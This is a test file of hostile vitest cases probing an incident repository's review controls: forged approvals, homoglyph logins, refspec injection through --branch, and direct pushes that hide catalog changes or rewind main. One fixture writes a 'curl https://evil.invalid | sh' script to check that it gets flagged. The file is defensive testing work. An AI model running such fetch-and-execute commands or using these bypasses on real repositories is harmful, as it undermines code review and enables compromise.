/**
 * Hostile tests of the trust model ("nothing unreviewed reaches main"),
 * written by an adversarial reviewer. Each failing test asserts the behaviour
 * the README promises; the passing ones are attacks that are already refused.
 */
import { execFileSync } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { REPO_ROOT } from '../test/builders.ts';
import { startFakeGitHub, type FakeGitHub } from '../test/fakes/fake-github.ts';
import { runScript, runScriptAsync } from '../test/helpers/run-script.ts';
import { createTempRepo, type TempRepo } from '../test/helpers/temp-repo.ts';

const NOW = '2026-11-29T18:00:00+09:00';
const CLOSED = '2026-03-18-kbi-credential-stuffing';
const SECURITY = '2026-07-02-kcps-customer-key-exposure';
const OPEN = '2026-11-28-kcps-object-storage-upload-failures';
const fileOf = (id: string) => `incidents/${id.slice(0, 4)}/${id}.md`;
const env = {
  GIT_AUTHOR_NAME: 'k-tanaka',
  GIT_AUTHOR_EMAIL: 'k-tanaka@invalid',
  GIT_COMMITTER_NAME: 'k-tanaka',
  GIT_COMMITTER_EMAIL: 'k-tanaka@invalid',
};

let repo: TempRepo;
let scratch: string;
let bare: string;
let github: FakeGitHub;

beforeAll(async () => {
  repo = createTempRepo();
  for (const dir of ['incidents', 'postmortems', 'ledger'])
    cpSync(join(REPO_ROOT, dir), join(repo.dir, dir), { recursive: true });
  repo.commit('seed');
  scratch = mkdtempSync(join(tmpdir(), 'trust-hostile-'));
  bare = join(scratch, 'remote.git');
  execFileSync('git', ['init', '-q', '--bare', '-b', 'main', bare]);
  repo.git('remote', 'add', 'origin', bare);
  repo.git('push', '-q', 'origin', 'main');
  github = await startFakeGitHub();
});
afterAll(async () => {
  await github?.close();
  repo?.cleanup();
  rmSync(scratch, { recursive: true, force: true });
});

/** Runs `fn` on a throw-away branch from the seed commit and returns to it afterwards. */
function onSeed<T>(fn: () => T): T {
  const seed = repo.git('rev-parse', 'main').trim();
  try {
    return fn();
  } finally {
    repo.git('reset', '-q', '--hard', seed);
    repo.git('clean', '-qfd');
  }
}

const check = (...args: string[]) => runScript('check.ts', ['--now', NOW, ...args], { cwd: repo.dir });
const codes = (out: string) => [...new Set(out.match(/\b(INC|APR)\d{3}\b/g) ?? [])].sort();

/** The security incident's postmortem, approved with the given approvers and time. */
function approve(approvers: string, at: string): void {
  const path = join(repo.dir, fileOf(SECURITY));
  const text = readFileSync(path, 'utf8').replace(
    /postmortem:\n {2}status: in_review\n {2}document: (.*)\n {2}cause_category: security\n/,
    (_m, doc) =>
      `postmortem:\n  status: approved\n  approvers: ${approvers}\n  approved_at: "${at}"\n  document: ${doc}\n  summary:\n    ja: 要約\n    en: Summary\n  cause_category: security\n`,
  );
  writeFileSync(path, text);
}

describe('the checker knows who may approve and when (INC112, INC113, INC034)', () => {
  it('the legitimate approval passes', () =>
    onSeed(() => {
      approve('[s-fujita, h-kimura, e-mori]', '2026-07-10T10:00:00+09:00');
      const r = check(fileOf(SECURITY));
      expect(r.stdout + r.stderr).not.toMatch(/INC11[0-3]/);
      expect(r.code).toBe(0);
    }));

  it.each([
    ['nobody from the catalog', '[nobody-1, nobody-2, nobody-3]', '2026-07-10T10:00:00+09:00', 'INC112'],
    ['one person in two roles', '[s-fujita, h-kimura]', '2026-07-10T10:00:00+09:00', 'INC112'],
    ['a manager of another department', '[k-nakamura, h-kimura, e-mori]', '2026-07-10T10:00:00+09:00', 'INC112'],
    ['a homoglyph login (Cyrillic і)', '[s-fujita, h-k\u0456mura, e-mori]', '2026-07-10T10:00:00+09:00', 'INC005'],
    ['approved_at before resolution, written in UTC', '[s-fujita, h-kimura, e-mori]', '2026-07-02T11:05:00Z', 'INC113'],
    ['approved_at before detection', '[s-fujita, h-kimura, e-mori]', '2020-01-01T00:00:00+09:00', 'INC113'],
    ['approved_at in the far future', '[s-fujita, h-kimura, e-mori]', '2099-01-01T00:00:00+09:00', 'INC034'],
  ])('refuses %s', (_what, approvers, at, code) =>
    onSeed(() => {
      approve(approvers, at);
      const r = check(fileOf(SECURITY));
      expect(r.code).toBe(1);
      expect(codes(r.stdout + r.stderr)).toContain(code);
    }),
  );

  // BUG: INC113 measures approved_at against the FIRST resolution, so an
  // approval given before a reopen still closes the incident: the approved
  // postmortem never covered the reopen (its timeline and SLA figures are stale).
  it('refuses closing on an approval given before a reopen', () =>
    onSeed(() => {
      approve('[s-fujita, h-kimura, e-mori]', '2026-07-02T20:15:00+09:00');
      const path = join(repo.dir, fileOf(SECURITY));
      const reopened = readFileSync(path, 'utf8')
        .replace(
          'recovered_at: "2026-07-02T19:18:00+09:00"\n',
          [
            '  - at: "2026-07-02T20:20:00+09:00"',
            '    status: investigating',
            '    message:',
            '      ja: 再発しました。',
            '      en: It happened again.',
            '    reopen_reason: A second key was abused.',
            '  - at: "2026-07-02T20:50:00+09:00"',
            '    status: resolved',
            '    message:',
            '      ja: 復旧しました。',
            '      en: Resolved again.',
            'recovered_at: "2026-07-02T20:45:00+09:00"',
            '',
          ].join('\n'),
        )
        .replace('    status: in_progress\n    tracking: SEC-410', '    status: done\n    tracking: SEC-410')
        .replace(
          '  cause_category: security\n---',
          '  cause_category: security\nclosed_at: "2026-07-20T10:00:00+09:00"\n---',
        );
      expect(reopened).toContain('reopen_reason');
      expect(reopened).toContain('closed_at');
      writeFileSync(path, reopened);
      const r = check(fileOf(SECURITY));
      expect(r.code).toBe(1);
      expect(r.stdout + r.stderr).toMatch(/reopen/);
    }));

  it('refuses a correction of an approver through an indexed path (postmortem.approvers[0])', () =>
    onSeed(() => {
      const r = runScript(
        'incident.ts',
        [
          'correct',
          CLOSED,
          '--field',
          'postmortem.approvers[0]',
          '--value',
          '"e-mori"',
          '--reason',
          'typo',
          '--by',
          't-sato',
          '--now',
          NOW,
        ],
        { cwd: repo.dir },
      );
      expect(r.code).toBe(1);
      expect(codes(r.stdout + r.stderr)).toContain('INC110');
    }));
});

describe('the fast lane carries only a live update', () => {
  const lane = (args: string[]) => runScript('incident.ts', [...args, '--push', '--now', NOW], { cwd: repo.dir, env });
  const remoteTip = () => execFileSync('git', ['rev-parse', 'main'], { cwd: bare, encoding: 'utf8' }).trim();

  it('a reopen of a closed, approved incident is refused, without a stack trace or a local write', () =>
    onSeed(() => {
      const tip = remoteTip();
      const r = lane([
        'update',
        CLOSED,
        '--status',
        'investigating',
        '--reopen-reason',
        'again',
        '--message-ja',
        '再発',
        '--message-en',
        'Again',
      ]);
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(/INC095/);
      expect(r.stderr).not.toMatch(/\n\s+at /);
      expect(remoteTip()).toBe(tip);
      expect(repo.git('status', '--porcelain')).toBe('');
    }));

  it('a severity change riding on an update is refused', () =>
    onSeed(() => {
      const tip = remoteTip();
      const r = lane([
        'update',
        OPEN,
        '--status',
        'identified',
        '--severity',
        'sev4',
        '--message-ja',
        '更新',
        '--message-en',
        'Update',
      ]);
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(/severity/);
      expect(remoteTip()).toBe(tip);
    }));
  // BUG: --branch goes into the fetch refspec unchecked: "main:refs/heads/evil"
  // makes `git fetch` write a local branch, then the command fails with git's
  // refspec error; a failed fast lane must write nothing locally.
  it('a --branch that is a refspec is a usage error and creates no local ref', () =>
    onSeed(() => {
      const refs = repo.git('for-each-ref', '--format=%(refname)');
      const r = lane([
        'update',
        OPEN,
        '--status',
        'identified',
        '--message-ja',
        '更新',
        '--message-en',
        'Update',
        '--branch',
        'main:refs/heads/evil',
      ]);
      const after = repo.git('for-each-ref', '--format=%(refname)');
      if (after.includes('refs/heads/evil')) repo.git('update-ref', '-d', 'refs/heads/evil');
      expect(r.code).not.toBe(0);
      expect(after).toBe(refs);
      expect(r.stderr).not.toMatch(/src refspec/);
    }));
});

describe('the recheck of pushes to main (no pull request merged these commits)', () => {
  const recheck = (before: string, after: string) =>
    runScriptAsync('recheck-push.ts', ['--before', before, '--after', after, '--run-url', 'https://ci.test/run/1'], {
      cwd: repo.dir,
      env: { GITHUB_TOKEN: 'test-token', GITHUB_REPOSITORY: 'o/r', GITHUB_API_URL: github.url },
    });
  const addCatalogOwner = () => {
    const path = join(repo.dir, 'config/catalog.yaml');
    writeFileSync(path, readFileSync(path, 'utf8').replace('owners: [h-kimura]', 'owners: [h-kimura, mallory]'));
  };

  it('a direct edit of an existing ledger file is alerted', async () => {
    const before = repo.git('rev-parse', 'main').trim();
    try {
      const ledger = repo.git('ls-files', 'ledger').split('\n')[0]!;
      writeFileSync(join(repo.dir, ledger), '');
      const after = repo.commit('trim the ledger');
      const r = await recheck(before, after);
      expect(r.code).toBe(1);
      expect(r.stdout).toContain(ledger);
    } finally {
      repo.git('reset', '-q', '--hard', before);
    }
  });

  it('a catalog change hidden behind a merge commit is alerted', async () => {
    const before = repo.git('rev-parse', 'main').trim();
    try {
      repo.git('checkout', '-q', '-b', 'side');
      addCatalogOwner();
      repo.commit('side: make mallory an owner');
      repo.git('checkout', '-q', 'main');
      repo.write('ledger/2026/2026-11-29T09-00-00-000Z-merge.jsonl', '');
      repo.commit('ledger');
      repo.git('merge', '-q', '--no-ff', '-m', 'merge', 'side');
      const after = repo.git('rev-parse', 'HEAD').trim();
      const r = await recheck(before, after);
      expect(r.code).toBe(1);
      expect(r.stdout).toContain('config/catalog.yaml');
    } finally {
      repo.git('reset', '-q', '--hard', before);
      repo.git('branch', '-q', '-D', 'side');
    }
  });

  // BUG: the recheck counts recovered_at as a live-update field whatever its
  // value on the default branch, so a direct push that moves the published
  // recovery time of a resolved incident earlier (or deletes it) passes.
  it.each([
    [
      'moved earlier',
      (t: string) =>
        t.replace('recovered_at: "2026-09-24T16:26:00+09:00"', 'recovered_at: "2026-09-24T15:10:00+09:00"'),
    ],
    ['removed', (t: string) => t.replace('recovered_at: "2026-09-24T16:26:00+09:00"\n', '')],
  ])('a direct push where the recovery time of a resolved incident is %s is alerted', async (_what, edit) => {
    const before = repo.git('rev-parse', 'main').trim();
    const file = fileOf('2026-09-24-kcps-load-balancer-degraded');
    try {
      const text = readFileSync(join(repo.dir, file), 'utf8');
      expect(edit(text)).not.toBe(text);
      writeFileSync(join(repo.dir, file), edit(text));
      const after = repo.commit('recovered earlier');
      const r = await recheck(before, after);
      expect(r.code).toBe(1);
      expect(r.stdout).toContain(file);
    } finally {
      repo.git('reset', '-q', '--hard', before);
    }
  });

  // BUG: a push that rewinds main (history rewritten, a ledger file and a
  // published update gone) has no commits in before..after, so nothing is judged.
  it('a force push that rewinds main and drops a ledger file is alerted', async () => {
    const start = repo.git('rev-parse', 'main').trim();
    try {
      repo.write('ledger/2026/2026-11-29T09-00-00-000Z-evidence.jsonl', '');
      const before = repo.commit('ledger: evidence');
      const r = await recheck(before, start);
      expect(r.code).toBe(1);
      expect(r.stdout).toContain('ledger/2026/2026-11-29T09-00-00-000Z-evidence.jsonl');
    } finally {
      repo.git('reset', '-q', '--hard', start);
    }
  });

  // BUG: pushedCommits stops at 250 commits (the newest ones), silently: a
  // direct catalog change followed by 250 harmless ledger commits is never judged.
  it('a direct catalog change buried under 250 later commits is still alerted', async () => {
    const before = repo.git('rev-parse', 'main').trim();
    try {
      addCatalogOwner();
      const first = repo.commit('make mallory an owner');
      let tip = first;
      // 250 commits each adding one new ledger file, in one fast-import run for speed.
      const stream = Array.from({ length: 250 }, (_, i) =>
        [
          `commit refs/heads/buried`,
          `committer k-tanaka <k-tanaka@invalid> 1796000000 +0900`,
          `data 9`,
          `ledger ${String(i).padStart(2, '0')}`.slice(0, 9),
          ...(i === 0 ? [`from ${tip}`] : []),
          `M 100644 inline ledger/2026/bury-${String(i).padStart(3, '0')}.jsonl`,
          `data 0`,
          '',
        ].join('\n'),
      ).join('\n');
      execFileSync('git', ['fast-import', '--quiet'], { cwd: repo.dir, input: `${stream}\n` });
      tip = repo.git('rev-parse', 'buried').trim();
      expect(repo.git('rev-list', '--count', `${before}..${tip}`).trim()).toBe('251');
      const r = await recheck(before, tip);
      expect(r.stdout).toContain('config/catalog.yaml');
      expect(r.code).toBe(1);
    } finally {
      repo.git('reset', '-q', '--hard', before);
      repo.git('update-ref', '-d', 'refs/heads/buried');
    }
  }, 60_000);

  // BUG: any file added under ledger/ passes as "a new ledger file", whatever it is.
  it('a file under ledger/ that is not a ledger file (a script) is alerted', async () => {
    const before = repo.git('rev-parse', 'main').trim();
    try {
      repo.write('ledger/run.sh', '#!/bin/sh\ncurl https://evil.invalid | sh\n');
      const after = repo.commit('add a script');
      const r = await recheck(before, after);
      expect(r.code).toBe(1);
      expect(r.stdout).toContain('ledger/run.sh');
    } finally {
      repo.git('reset', '-q', '--hard', before);
    }
  });
});
